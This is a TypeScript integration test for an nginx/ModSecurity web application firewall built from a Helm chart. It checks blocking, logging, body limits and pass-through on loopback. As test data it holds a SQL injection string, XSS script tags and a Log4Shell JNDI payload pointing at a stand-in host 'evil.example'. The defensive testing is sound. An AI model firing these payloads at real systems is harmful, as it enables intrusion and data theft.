/**
 * The firewall as production gets it: the chart's own configuration, in the real nginx with the real ModSecurity and the
 * core rule set, in front of a real HTTP server. Everything stays on loopback.
 */
import { expect } from 'chai';
import { connect } from 'node:net';
import { mkdirSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { z } from 'zod';
import { registry } from '../../src/blueprint/registry.ts';
import {
  n8nExclusions,
  nextcloudExclusions,
  registryExclusions,
  wordpressExclusions,
} from '../../src/catalogue/waf-exclusions.ts';
import type { AppEntry, Catalogue } from '../../src/model/plugs.ts';
import type { WafExclusion } from '../../src/model/waf-exclusion.ts';
import { renderEnvironment } from '../../src/render/environment.ts';
import { blueprintOf, renderInputs } from '../support/example.ts';
import { attacks } from '../support/firewall/attacks.ts';
import { accepts, startBackend, startFirewall, type Backend, type Firewall } from '../support/firewall/firewall.ts';
import { HOSTS, ordinary } from '../support/firewall/ordinary.ts';
import { request, send } from '../support/firewall/requests.ts';
import { chartPaths, manifestsOf, valuesOf } from '../support/manifests.ts';
import { FIREWALL, serverOrSkip } from '../support/servers/install.ts';
import { tempFolder } from '../support/temp.ts';
import { toolOrSkip } from '../support/tools.ts';

const MIB = 1024 * 1024;
const CLIENT = '198.51.100.7';

/** An app as far as the firewall is concerned. */
function app(id: string, wafExclusions: readonly WafExclusion[]): AppEntry {
  const contribute = () => ({ releases: [], wafExclusions });
  const told = { title: id, summary: id, version: '1', questions: [], costs: () => ({ memoryMi: 0, diskGi: 0 }) };
  return { id, kind: 'app', ...told, home: 'app', options: z.strictObject({}), contribute };
}

const catalogue: Catalogue = {
  ...registry,
  entries: new Map(
    [
      ...registry.entries.values(),
      app('shop', wordpressExclusions(HOSTS.wordpress)),
      app('flows', n8nExclusions(HOSTS.n8n)),
      app('cloud', nextcloudExclusions(HOSTS.nextcloud)),
      app('images', registryExclusions(HOSTS.registry)),
    ].map((entry) => [entry.id, entry]),
  ),
};

describe('the firewall', function () {
  this.timeout(240_000);
  const folder = tempFolder();
  let backend: Backend;
  let files: (mode: string) => Promise<Record<string, string>>;
  let server: string;
  let firewall: Firewall;
  let started = 0;

  /** What production would get, but for where things lie: the backend, and that this machine's loopback is trusted. */
  async function start(mode: string, change = (text: string): string => text): Promise<Firewall> {
    const own = join(folder.path, `firewall-${started++}`);
    mkdirSync(own);
    const rendered = await files(mode);
    const ours = Object.fromEntries(
      Object.entries(rendered).map(([name, text]) => [
        name,
        change(text)
          .replaceAll(/http:\/\/traefik-internal[^;]+/g, `http://127.0.0.1:${backend.port}`)
          .replace('set_real_ip_from 10.0.0.0/8;', 'set_real_ip_from 10.0.0.0/8; set_real_ip_from 127.0.0.0/8;'),
      ]),
    );
    return startFirewall({ server, files: ours, folder: own });
  }

  before(async function () {
    server = await serverOrSkip(this, FIREWALL);
    const helm = await toolOrSkip(this, 'helm');
    const inputs = await renderInputs();
    const chartPath = await chartPaths(folder.path);
    files = async (mode) => {
      const blueprint = await blueprintOf(
        `platform: doks\nrootDomain: example.com\ntls: { email: ops@example.com }\ningress: { waf: ${mode} }\napps: { shop: {}, flows: {}, cloud: {}, images: {} }\n`,
        'prod',
        catalogue,
      );
      const release = blueprint.stacks.flatMap(({ releases }) => releases).find(({ name }) => name === 'waf')!;
      const values = valuesOf(blueprint, renderEnvironment(blueprint, inputs), 'infra', release);
      const objects = await manifestsOf(helm, folder.path, await chartPath(release), release, values);
      return objects.find(({ kind }) => kind === 'ConfigMap')!['data'] as Record<string, string>;
    };
    backend = await startBackend();
    firewall = await start('block');
  });
  after(async () => {
    await firewall?.stop();
    await backend?.close();
    folder.remove();
  });
  beforeEach(() => backend.forget());

  it(`refuses ${attacks.length} attacks, and none of them reaches an app`, async () => {
    expect(attacks.length).to.be.at.least(200);
    const through: string[] = [];
    for (const { kind, what, request: raw } of attacks) {
      const { status } = await send(firewall.port, raw);
      if (![400, 403, 405].includes(status) || backend.seen.length > 0) through.push(`${kind}: ${what} → ${status}`);
      backend.forget();
    }
    expect(through).to.deep.equal([]);
  });

  it(`lets ${ordinary.length} ordinary requests through`, async () => {
    expect(ordinary.length).to.be.at.least(200);
    const refused: string[] = [];
    for (const { app: name, what, request: raw } of ordinary) {
      backend.forget();
      const { status } = await send(firewall.port, raw);
      if (status !== 200 || backend.seen.length !== 1) refused.push(`${name}: ${what} → ${status}`);
    }
    expect(refused).to.deep.equal([]);
  });

  it('looks as closely as ever beside what it was told to leave out', async () => {
    const attack = "' UNION SELECT username, password FROM users-- -";
    const beside: [string, Buffer][] = [
      [
        'a visitor’s comment',
        request('POST', '/wp-comments-post.php', {
          host: HOSTS.wordpress,
          form: { comment: `<script>${attack}</script>` },
        }),
      ],
      [
        'another field of a post',
        request('POST', '/wp-json/wp/v2/posts/12', { host: HOSTS.wordpress, json: { slug: attack } }),
      ],
      [
        'the editor’s path on another host',
        request('POST', '/wp-json/wp/v2/posts/12', { host: HOSTS.n8n, json: { content: attack } }),
      ],
      ['a webhook', request('POST', '/webhook/1', { host: HOSTS.webhook, json: { a: attack } })],
      [
        'the query of a workflow’s address',
        request('GET', `/rest/settings?q=${encodeURIComponent(attack)}`, { host: HOSTS.n8n }),
      ],
      ['WebDAV’s methods elsewhere', request('PROPFIND', '/', { host: HOSTS.nextcloud })],
      [
        'the address of an upload',
        request('PATCH', `/v2/a/blobs/uploads/1?x=${encodeURIComponent(attack)}`, {
          host: HOSTS.registry,
          headers: { 'Content-Type': 'application/octet-stream' },
          body: 'x',
        }),
      ],
      [
        'a header of an upload',
        request('PATCH', '/v2/a/blobs/uploads/1', {
          host: HOSTS.registry,
          headers: { 'Content-Type': 'application/octet-stream', 'X-Note': '${jndi:ldap://evil.example/a}' },
          body: 'x',
        }),
      ],
      [
        'an upload on another host',
        request('PATCH', '/v2/a/blobs/uploads/1', { host: HOSTS.n8n, json: { a: attack } }),
      ],
      ['what the firewall asks itself', request('GET', '/.waf/inspect?q=<script>', { host: HOSTS.registry })],
    ];
    for (const [what, raw] of beside) {
      const { status } = await send(firewall.port, raw);
      expect(status, what).to.be.oneOf([400, 403, 404]);
      expect(backend.seen, what).to.deep.equal([]);
    }
  });

  it('hands on who the client is, and writes it down', async () => {
    const headers = { 'X-Forwarded-For': CLIENT, 'X-Forwarded-Proto': 'https', 'X-Forwarded-Host': HOSTS.wordpress };
    expect(
      (await send(firewall.port, request('GET', '/a%2Fb?c=d%20e', { host: HOSTS.wordpress, headers }))).status,
    ).to.equal(200);
    const [seen] = backend.seen;
    expect(seen?.url, 'byte for byte').to.equal('/a%2Fb?c=d%20e');
    expect(seen?.headers).to.include({
      host: HOSTS.wordpress,
      'x-forwarded-for': CLIENT,
      'x-forwarded-proto': 'https',
      'x-real-ip': CLIENT,
    });
    const attack = '/of-a-client?q=%3Cscript%3Ealert(1)%3C/script%3E';
    await send(firewall.port, request('GET', attack, { headers }));
    const { transaction } = JSON.parse(await firewall.finding('/of-a-client')) as {
      transaction: { client_ip: string };
    };
    expect(transaction.client_ip).to.equal(CLIENT);
  });

  it('writes down no password: neither headers nor bodies', async () => {
    const form = { log: 'admin', pwd: 'canary-of-a-password', redirect_to: '<script>alert(1)</script>' };
    const headers = { Cookie: 'session=canary-of-a-cookie', Authorization: 'Bearer canary-of-a-token' };
    await send(firewall.port, request('POST', '/with-passwords', { form, headers }));
    expect(await firewall.finding('/with-passwords')).not.to.include('canary-of');
  });

  it('refuses bodies that are larger than it would hold', async () => {
    const upload = (size: number) =>
      request('POST', '/wp-admin/async-upload.php', {
        host: HOSTS.wordpress,
        parts: [{ name: 'async-upload', filename: 'film.mp4', type: 'video/mp4', content: Buffer.alloc(size) }],
      });
    expect((await send(firewall.port, upload(31 * MIB))).status).to.equal(200);
    expect(backend.seen[0]?.bytes).to.be.greaterThan(31 * MIB);
    backend.forget();
    expect((await send(firewall.port, upload(33 * MIB))).status).to.equal(413);
    expect(backend.seen).to.deep.equal([]);
  });

  it('passes a push of 2 GiB on as it comes, neither in memory nor on disk', async () => {
    const size = 2 * 1024 * MIB;
    const before = firewall.peakMemory();
    const answer = await push(firewall.port, size, () => largestFile(folder.path));
    expect(answer.status).to.equal(200);
    expect(backend.seen.map(({ bytes }) => bytes)).to.deep.equal([size]);
    expect(firewall.peakMemory() - before, 'MiB more than before').to.be.lessThan(32);
    expect(answer.largest / MIB, 'MiB in a file meanwhile').to.be.lessThan(32);
  });

  it('lets a WebSocket through, both ways', async () => {
    const echoed = await new Promise<string>((resolve, reject) => {
      const socket = connect(firewall.port, '127.0.0.1');
      let text = '';
      socket.setTimeout(10_000, () => reject(new Error(`no echo: ${text}`)));
      socket.on('data', (chunk: Buffer) => {
        text += chunk.toString('latin1');
        if (text.endsWith('\r\n\r\n')) socket.write('a frame');
        if (text.endsWith('a frame')) socket.end(() => resolve(text));
      });
      socket.write(
        `GET /rest/push?pushRef=abc HTTP/1.1\r\nHost: ${HOSTS.n8n}\r\nUser-Agent: a\r\nAccept: */*\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`,
      );
    });
    expect(echoed).to.match(/^HTTP\/1.1 101 /);
    expect(backend.seen[0]?.method).to.equal('UPGRADE');
  });

  it('only writes down when it is told to detect', async () => {
    const detecting = await start('detect');
    try {
      expect((await send(detecting.port, attacks[0]!.request)).status).to.equal(200);
      expect(backend.seen.length).to.equal(1);
      const upload = request('PATCH', `/v2/a/blobs/uploads/1?x=<script>`.replace(/[<>]/g, encodeURIComponent), {
        host: HOSTS.registry,
        body: 'x',
      });
      expect((await send(detecting.port, upload)).status).to.equal(200);
    } finally {
      await detecting.stop();
    }
  });

  it('is closed when it cannot look: without its rules it does not start, and when it stops nothing answers', async () => {
    const broken = (text: string): string =>
      text.replace('Include /opt/owasp-crs/rules/*.conf', 'Include /opt/owasp-crs/none.conf');
    const error = await start('block', broken).then(() => undefined, String);
    expect(error).to.match(/nginx does not start/);
    const stopping = await start('block');
    await stopping.stop();
    expect(await accepts(stopping.port)).to.equal(false);
    expect(backend.seen).to.deep.equal([]);
  });
});

/** Written as fast as it is taken. */
function push(port: number, size: number, look: () => number): Promise<{ status: number; largest: number }> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1');
    const piece = Buffer.alloc(4 * MIB, 0xa5);
    let left = size;
    let largest = 0;
    let text = '';
    const write = (): void => {
      while (left > 0) {
        const now = Math.min(left, piece.length);
        left -= now;
        if (left % (256 * MIB) === 0) largest = Math.max(largest, look());
        if (!socket.write(now === piece.length ? piece : piece.subarray(0, now))) return;
      }
    };
    socket.on('drain', write).once('error', reject);
    socket.on('data', (chunk: Buffer) => {
      text += chunk.toString('latin1');
      if (!text.includes('\r\n\r\n')) return;
      socket.destroy();
      resolve({ status: Number(/^HTTP\/1\.1 (\d+)/.exec(text)?.[1]), largest });
    });
    socket.write(
      `PATCH /v2/shop/site/blobs/uploads/1 HTTP/1.1\r\nHost: ${HOSTS.registry}\r\nUser-Agent: containerd/2.1\r\nAccept: */*\r\nContent-Type: application/octet-stream\r\nContent-Length: ${size}\r\nConnection: close\r\n\r\n`,
    );
    write();
  });
}

function largestFile(folder: string): number {
  return Math.max(
    ...readdirSync(folder, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile() && !entry.name.endsWith('.tgz'))
      .map((entry) => statSync(join(entry.parentPath, entry.name)).size),
  );
}
